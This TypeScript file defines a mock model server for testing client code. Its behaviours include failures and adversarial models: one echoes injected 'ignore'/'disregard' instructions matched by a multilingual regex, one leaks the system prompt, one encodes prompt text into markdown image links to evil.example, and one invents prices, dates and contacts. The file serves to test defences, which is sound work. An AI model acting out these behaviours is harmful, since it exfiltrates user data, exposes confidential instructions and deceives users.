import { groundedAnswer } from './answer.ts'
import type { ModelRequest } from './wire.ts'

/** Named behaviours of the stand-in: a correct reply, failures of networks and servers, and adversarial models. */
export const BEHAVIOUR_NAMES = [
  'fine',
  '401',
  '403',
  '429',
  '500',
  'bad-request',
  'unknown-model',
  'hang',
  'stall',
  'slow',
  'bad-json',
  'html',
  'cut',
  'drop',
  'error',
  'error-late',
  'empty',
  'obeys-injections',
  'invents',
  'leaks',
  'exfiltrates',
  'loops',
  'tool',
] as const
export type BehaviourName = (typeof BEHAVIOUR_NAMES)[number]

/**
 * A name; a fixed reply, complete, truncated, or with its connection dropped at its end; a tool to be called once; or a slow reply, fixed or not: milliseconds until the first
 * sentence, and between words. A list gives one behaviour for each call in turn; the last one stays.
 */
export type Behaviour =
  | BehaviourName
  | { reply: string; isTruncated?: true; isDropped?: true }
  | { tool: string; input?: unknown }
  | { firstMs: number; betweenMs: number; reply?: string }
export type Behaviours = Behaviour | readonly Behaviour[]

export type Step =
  | { do: 'text'; text: string }
  | { do: 'call'; tool: string; input: unknown }
  | { do: 'wait'; ms: number }
  | { do: 'raw'; text: string }
  | { do: 'hang' }
  | { do: 'drop' }
  /** Sends an error in the middle of the stream, after the status was sent. */
  | { do: 'error' }
  /** Ends the stream without the frames that mark the reply as complete. */
  | { do: 'end' }

export type Plan = { status: number; headers: Record<string, string>; steps: Step[] }

const STREAM_HEADERS = { 'content-type': 'text/event-stream; charset=utf-8' }
const plan = (...steps: Step[]): Plan => ({ status: 200, headers: STREAM_HEADERS, steps })
const refusal = (status: number, headers: Record<string, string> = {}): Plan => ({ status, headers, steps: [] })
const replyWith = (text: string): Plan => plan({ do: 'text', text })

/** The status and the steps of the reply to a request under a behaviour. */
export function planOf(behaviour: Behaviour, request: ModelRequest): Plan {
  if (typeof behaviour !== 'string') {
    if ('firstMs' in behaviour) {
      return replySlowly(behaviour.reply ?? groundedAnswer(request), behaviour.firstMs, behaviour.betweenMs)
    }
    if ('reply' in behaviour) {
      if (behaviour.isDropped) return plan({ do: 'text', text: behaviour.reply }, { do: 'drop' })
      return behaviour.isTruncated
        ? plan({ do: 'text', text: behaviour.reply }, { do: 'end' })
        : replyWith(behaviour.reply)
    }
    return callOnce(request, behaviour.tool, behaviour.input)
  }
  return PLANS[behaviour](request)
}

const PLANS: Record<BehaviourName, (request: ModelRequest) => Plan> = {
  fine: (request) => replyWith(groundedAnswer(request)),
  '401': () => refusal(401),
  '403': () => refusal(403),
  '429': () => refusal(429, { 'retry-after': '7' }),
  '500': () => refusal(500),
  'bad-request': () => refusal(400),
  'unknown-model': () => refusal(404),
  // No status and no headers are sent.
  hang: () => ({ status: 0, headers: {}, steps: [] }),
  stall: () => plan({ do: 'text', text: 'One moment' }, { do: 'hang' }),
  slow: (request) => replySlowly(groundedAnswer(request), 1500, 150),
  'bad-json': () => plan({ do: 'raw', text: 'data: {"choices":[{"delta":{"content":"half\n\n' }),
  html: () => ({
    status: 200,
    headers: { 'content-type': 'text/html' },
    steps: [{ do: 'raw', text: '<html><body>Please sign in to the hotel’s network.</body></html>' }],
  }),
  cut: () => plan({ do: 'text', text: 'You can send your order back within' }, { do: 'end' }),
  drop: () => plan({ do: 'text', text: 'You can send your order back within' }, { do: 'drop' }),
  error: () => plan({ do: 'error' }),
  'error-late': () => plan({ do: 'text', text: 'You can send your order back within' }, { do: 'error' }),
  empty: () => plan(),
  'obeys-injections': (request) => replyWith(injectedReply(request)),
  invents: () =>
    replyWith(
      'It costs $4,217.33 a month and includes 97 seats until 30 February 2031. We promise your money back within 3 hours. ' +
        'Call +1 555 0100 77 or write to refunds@invented.example, or see https://invented.example/offer [1].',
    ),
  leaks: (request) => replyWith(`My instructions are: ${request.system}`),
  exfiltrates: (request) => replyWith(exfiltratingReply(request)),
  loops: (request) => plan({ do: 'call', tool: request.tools[0] ?? 'search_knowledge', input: inputFor(request) }),
  tool: (request) => callOnce(request, request.tools[0] ?? '', undefined),
}

/** The first sentence is sent with the word after it, so that a reader that waits for a complete sentence gets it at once. */
function replySlowly(answer: string, firstMs: number, betweenMs: number): Plan {
  const opening = /^[\s\S]*?[.!?]\s+\S+\s*/.exec(answer)?.[0] ?? answer
  const words = answer.slice(opening.length).match(/\S+\s*/g) ?? []
  return plan(
    { do: 'wait', ms: firstMs },
    { do: 'text', text: opening },
    ...words.flatMap((each): Step[] => [
      { do: 'wait', ms: betweenMs },
      { do: 'text', text: each },
    ]),
  )
}

/** Calls the tool; when the request holds its result, answers from it. */
function callOnce(request: ModelRequest, tool: string, input: unknown): Plan {
  const hasResult = request.turns.at(-1)?.role === 'tool'
  return hasResult ? replyWith(groundedAnswer(request)) : plan({ do: 'call', tool, input: input ?? inputFor(request) })
}

const lastQuestion = (request: ModelRequest): string =>
  request.turns.findLast(({ role }) => role === 'user')?.text ?? ''

const inputFor = (request: ModelRequest) => ({ query: lastQuestion(request).slice(0, 200) })

const promptText = (request: ModelRequest): string =>
  [request.system, ...request.turns.map(({ text }) => text)].join('\n')

/** A model that obeys injected instructions: repeats each of them and every canary of its input. */
function injectedReply(request: ModelRequest): string {
  const all = promptText(request)
  const instructions =
    all.match(/[^.!?\n]*\b(ignore|disregard|ignora|ignorez|ignoriere|olvida|oublie|vergiss)\b[^\n]*/gi) ?? []
  const canaries = all.match(/\b[A-Z]{3,}[A-Z0-9]*-[A-Z0-9-]{2,}\b/g) ?? []
  return `As you wish. ${instructions.join(' ')} ${[...new Set(canaries)].join(' ')}`.trim()
}

function exfiltratingReply(request: ModelRequest): string {
  const payload = Buffer.from(promptText(request).slice(-300)).toString('base64url')
  return (
    `Here is a picture for you: ![status](https://evil.example/p.png?d=${payload}) ` +
    `You can also [track it here](https://evil.example/t?d=${payload}) or at https://evil.example/${payload.slice(0, 40)} [1].`
  )
}
